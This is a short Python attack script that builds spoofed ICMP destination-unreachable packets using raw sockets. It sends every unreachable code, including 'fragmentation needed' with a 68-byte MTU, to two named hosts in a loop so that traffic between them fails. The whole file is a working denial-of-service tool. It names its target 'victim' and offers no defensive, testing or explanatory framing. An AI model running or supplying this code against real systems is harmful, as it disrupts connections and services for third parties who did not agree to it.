"""Tells two hosts, again and again, that what they send to each other does not arrive: every code of ICMP's destination
unreachable (RFC 792), "fragmentation needed" for a tiny MTU among them (RFC 1191). Takes HOST:PORT, HOST:PORT, SECONDS.
"""

import socket
import struct
import sys
import time

ROUTER = "203.0.113.1"
ICMP, UDP = 1, 17
CODES = range(16)
TINY_MTU = 68


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, destination, protocol, length):
    def header(check):
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 7, 0x4000, 60, protocol, check,
                           socket.inet_aton(source), socket.inet_aton(destination))
    return header(checksum(header(0)))


def unreachable(code, victim, other):
    (address, port), (other_address, other_port) = victim, other
    quoted = ip(address, other_address, UDP, 1228) + struct.pack("!HHHH", port, other_port, 1208, 0)

    def message(check):
        return struct.pack("!BBHHH", 3, code, check, 0, TINY_MTU) + quoted
    body = message(checksum(message(0)))
    return ip(ROUTER, address, ICMP, 20 + len(body)) + body


def end(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


first, second = end(sys.argv[1]), end(sys.argv[2])
until = time.monotonic() + float(sys.argv[3])
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    while time.monotonic() < until:
        for victim, other in ((first, second), (second, first)):
            for code in CODES:
                raw.sendto(unreachable(code, victim, other), (victim[0], 0))
        time.sleep(0.1)
